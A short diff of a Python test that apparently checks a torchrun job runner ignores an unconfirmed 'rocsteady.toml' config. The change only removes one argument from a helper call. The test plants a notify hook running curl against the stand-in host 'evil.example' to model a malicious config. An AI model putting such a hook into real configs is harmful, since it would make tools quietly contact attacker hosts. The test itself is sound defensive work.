@@ -156,7 +156,7 @@ def test_torchrun_which_can_ask_nobody_uses_no_job_file_that_was_not_confirmed(
     path.write_text(path.read_text() + "[notify]\ncommand = ['curl', 'evil.example']")
 
     def job(*, yes: bool = False) -> Job:
-        return job_here(tmp_path, command, yes=yes, example="", of_ranks=True)
+        return job_here(tmp_path, command, yes=yes, of_ranks=True)
 
     assert job() == Job(command=command)
     assert "rocsteady.toml is not used" in capsys.readouterr().err
